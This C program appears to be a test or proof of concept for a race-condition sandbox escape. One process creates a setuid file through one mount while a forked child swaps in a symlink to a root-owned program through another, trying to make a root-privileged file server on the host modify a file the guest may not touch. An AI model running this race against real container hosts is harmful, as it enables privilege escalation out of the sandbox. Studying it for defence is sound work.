/*
 * Tries to make the gofer, which is root on the host, change a file that the
 * guest has no right to: creates /x1/d/f with setuid bits while another process
 * puts a link to root's file in its place. The two mounts are the same host
 * directory, so that no lock of the sentry orders the two. Runs 4 seconds.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void swap_for_ever(void)
{
	for (;;) {
		if (symlink("../rootdir/prog", "/x2/d/l"))
			unlink("/x2/d/l");
		renameat2(AT_FDCWD, "/x2/d/l", AT_FDCWD, "/x2/d/f", RENAME_EXCHANGE);
		unlink("/x2/d/l");
	}
}

int main(void)
{
	time_t end = time(NULL) + 4;
	long created = 0;
	pid_t pid = fork();

	if (pid == 0)
		swap_for_ever();
	while (time(NULL) < end) {
		int fd = open("/x1/d/f", O_CREAT | O_EXCL | O_RDWR, 06777);

		if (fd >= 0)
			created++, close(fd);
		if (mkdir("/x1/d/f", 06777) == 0)
			rmdir("/x1/d/f");
		unlink("/x1/d/f");
	}
	kill(pid, SIGKILL);
	printf("created %s\n", created > 10 ? "many" : "too few");
	return 0;
}
